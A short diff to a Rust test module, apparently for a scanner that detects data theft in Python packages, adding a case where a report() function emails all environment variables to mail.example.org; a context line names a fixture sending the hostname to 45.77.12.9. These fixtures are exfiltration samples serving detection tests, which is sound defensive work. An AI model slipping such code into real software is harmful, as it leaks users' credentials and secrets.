@@ -317,6 +317,13 @@ mod tests {
                     Some((5, "socket.gethostname + s.send to 45.77.12.9", High)),
                 ),
                 (
+                    "environment mailed out",
+                    "pkg/report.py",
+                    Runtime,
+                    "def report():\n    s = smtplib.SMTP('mail.example.org', 587)\n    s.sendmail(A, B, json.dumps(dict(os.environ)))\n",
+                    Some((3, "os.environ dump + smtplib.SMTP", High)),
+                ),
+                (
                     "user name to a tunnel",
                     "pkg/util.py",
                     Runtime,
